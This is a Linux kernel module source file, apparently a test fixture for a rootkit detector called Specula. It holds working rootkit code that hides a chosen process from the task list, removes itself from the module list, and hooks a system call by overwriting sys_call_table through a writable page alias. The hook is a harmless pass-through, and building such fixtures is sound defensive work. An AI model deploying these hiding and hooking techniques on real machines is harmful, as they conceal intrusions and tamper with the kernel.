// SPDX-License-Identifier: GPL-2.0
/*
 * specula_rootkit: a test rootkit for Specula's rootkit checks. It is built
 * against the guest kernel's Debian linux-headers package and loaded only in
 * a disposable test guest. It does what rootkits in the wild do:
 *
 *  - hides the process `hide_pid` by unlinking it from the task list
 *    (init_task.tasks); it keeps its pid, so /proc and kill(2) still find it;
 *  - hides itself by unlinking from the module list (`modules`), which is
 *    what /proc/modules and lsmod read; its sysfs kobject and its nodes in
 *    the module address tree stay;
 *  - redirects system call `syscall_nr` by overwriting its sys_call_table
 *    entry (the table's address is `sys_call_table`, read from /proc/kallsyms
 *    by the test) through a writable alias of the read-only page. The hook
 *    calls the original, so the guest keeps working.
 *
 * It takes no locks it cannot reach (tasklist_lock and module_mutex are not
 * exported): the test guest is idle while it loads. It cannot be unloaded.
 */
#include <linux/module.h>
#include <linux/mm.h>
#include <linux/pid.h>
#include <linux/sched.h>
#include <linux/sched/task.h>
#include <linux/vmalloc.h>

static int hide_pid;
module_param(hide_pid, int, 0);
MODULE_PARM_DESC(hide_pid, "pid of the process to hide (0: none)");

static unsigned long table_address;
module_param_named(sys_call_table, table_address, ulong, 0);
MODULE_PARM_DESC(sys_call_table, "address of sys_call_table (from /proc/kallsyms)");

static int syscall_nr = -1;
module_param(syscall_nr, int, 0);
MODULE_PARM_DESC(syscall_nr, "system call to redirect (-1: none)");

typedef long (*syscall_fn_t)(const struct pt_regs *);
static syscall_fn_t original;

static long specula_rootkit_hook(const struct pt_regs *regs)
{
	return original(regs);
}

static int hide_process(void)
{
	struct pid *pid = find_get_pid(hide_pid);
	struct task_struct *task = pid ? get_pid_task(pid, PIDTYPE_PID) : NULL;

	put_pid(pid);
	if (!task)
		return -ESRCH;
	list_del_init(&task->tasks);
	put_task_struct(task);
	return 0;
}

static int redirect_syscall(void)
{
	unsigned long entry = table_address + syscall_nr * sizeof(void *);
	struct page *page = virt_to_page((void *)entry);
	void *alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
	syscall_fn_t *slot;

	if (!alias)
		return -ENOMEM;
	slot = alias + offset_in_page(entry);
	original = READ_ONCE(*slot);
	WRITE_ONCE(*slot, specula_rootkit_hook);
	vunmap(alias);
	return 0;
}

static int __init specula_rootkit_init(void)
{
	int err;

	if (syscall_nr >= 0 && !table_address)
		return -EINVAL;
	if (hide_pid > 0) {
		err = hide_process();
		if (err)
			return err;
	}
	if (syscall_nr >= 0) {
		err = redirect_syscall();
		if (err)
			return err;
	}
	list_del_init(&THIS_MODULE->list);
	pr_info("specula_rootkit: hid pid %d, redirected syscall %d, hid itself\n", hide_pid, syscall_nr);
	return 0;
}
module_init(specula_rootkit_init);

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("Specula's test rootkit: hides a process and itself, redirects a system call");
